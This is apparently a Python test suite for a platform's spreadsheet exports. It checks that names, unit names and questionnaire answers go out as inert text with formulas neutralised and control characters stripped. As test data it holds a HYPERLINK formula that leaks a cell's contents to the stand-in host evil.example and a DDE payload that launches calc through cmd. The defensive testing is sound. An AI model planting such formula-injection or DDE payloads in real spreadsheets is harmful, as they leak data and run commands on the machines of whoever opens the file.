"""Issue 16, exports that can neither break nor be weaponised: hostile names, units and
answers (stored before the boundary refused them, or through an import) go out inert."""
from __future__ import annotations

import re
from io import BytesIO
from typing import Any

from chalicelib.platform.spreadsheets import safe_cell
from tests.learning.conftest import LEARNING_OPEN, QUESTIONNAIRE_OPEN, answers_for, complete_courses, paid_trainee

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&B3,"点我")'
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def test_safe_cell_neutralises_formulas_and_strips_control_characters() -> None:
    assert safe_cell(HOSTILE_NAME) == "'" + HOSTILE_NAME
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(lead + "1+1").startswith("'")
    assert safe_cell("赵\x07六\u202e") == "赵六"
    assert safe_cell("\x07=1+1") == "'=1+1"  # stripping cannot uncover a formula
    assert safe_cell(5) == 5 and safe_cell(None) is None and safe_cell("张三") == "张三"


def test_questionnaire_export_with_hostile_data_answers_200_and_holds_no_formula(
        api: Any, deps: Any, clock: Any) -> None:
    from openpyxl import load_workbook

    from chalicelib.learning import questionnaire
    from chalicelib.learning import service as learning
    from chalicelib.registration.repository import Registration
    clock.set(LEARNING_OPEN)
    trainees = [paid_trainee(HOSTILE_NAME), paid_trainee("赵\x07六")]
    Registration.get(trainees[1].registration_id).update(
        actions=[Registration.unit_name.set("@SUM(1+1)\x1b单位")])
    clock.set(LEARNING_OPEN)
    for t in trainees:
        learning.enroll(deps, t.user_sub, clock.now())
        complete_courses(deps, t)
    clock.set(QUESTIONNAIRE_OPEN)
    for t in trainees:
        questionnaire.submit(deps, t.user_sub,
                             {**answers_for(deps), "comments": "+cmd|' /C calc'!A0\x07"},
                             clock.now())
    r = api.get("/admin/questionnaire/export", api.staff("admin"), headers={"Accept": "*/*"})
    assert r.status_code == 200, r.body[:300]
    ws = load_workbook(BytesIO(r.body)).active
    rows = list(ws.iter_rows())
    body = rows[1:3]
    assert len(body) == 2
    for row in body:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not CONTROL.search(cell.value), (cell.coordinate, cell.value)
    names = {row[1].value for row in body}
    assert names == {"'" + HOSTILE_NAME, "赵六"}
    assert "'@SUM(1+1)单位" in {row[2].value for row in body}
    assert rows[3][0].value == "平均分"  # the platform's own average formulas stay


def test_every_staff_export_cell_kind_is_inert_for_any_text() -> None:
    """The staff's exports (chalicelib/reports/exports.py; per-field hostile data in
    tests/reports/test_exports.py): whatever text reaches a column of any kind, the cell
    written is a number, a date, None or text that neither starts a formula nor holds a
    control or bidi character."""
    from hypothesis import given, settings, strategies as st

    from chalicelib.reports.exports import EXPORTS, _value
    kinds = {col.kind for spec in EXPORTS.values() for col in spec.columns}
    assert kinds == {"text", "yuan", "time", "number"}
    bidi = re.compile("[\u202a-\u202e\u2066-\u2069]")

    @settings(max_examples=300, deadline=None, database=None)
    @given(st.sampled_from(sorted(kinds - {"yuan"})), st.text(max_size=40))
    def check(kind: str, text: str) -> None:
        out = _value(kind, text)
        if isinstance(out, str):
            assert not out.startswith(("=", "+", "-", "@", "\t", "\r")), out
            assert not CONTROL.search(out) and not bidi.search(out), out
    check()
